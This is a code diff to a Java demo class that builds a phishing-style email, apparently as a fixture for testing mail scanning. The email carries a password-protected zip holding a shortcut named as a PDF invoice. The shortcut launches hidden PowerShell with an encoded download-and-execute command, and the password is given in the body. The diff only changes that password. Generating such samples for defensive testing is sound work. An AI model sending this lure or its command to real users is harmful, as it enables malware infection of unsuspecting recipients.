@@ -49,9 +49,9 @@ public final class DemoMails {
     public static byte[] encryptedZipWithShortcut() {
         byte[] lnk = LnkWriter.shortcut("Invoice", "..\\..\\..\\Windows\\System32\\cmd.exe",
                 "/c powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA");
-        byte[] zip = Archives.encryptedZip(Map.of("Invoice_2026-11.pdf.lnk", lnk), "Nov2026!");
+        byte[] zip = Archives.encryptedZip(Map.of("Invoice_2026-11.pdf.lnk", lnk), "Nov-2026-4711");
         return new MimeBuilder().from("Shipping <noreply@example.net>").to("Buyer <buyer@example.org>")
-                .subject("Your documents").body("Hello,\nthe documents are attached.\nPassword: Nov2026!\nRegards\n")
+                .subject("Your documents").body("Hello,\nthe documents are attached.\nPassword: Nov-2026-4711\nRegards\n")
                 .attach("documents.zip", "application/zip", zip).build();
     }
 
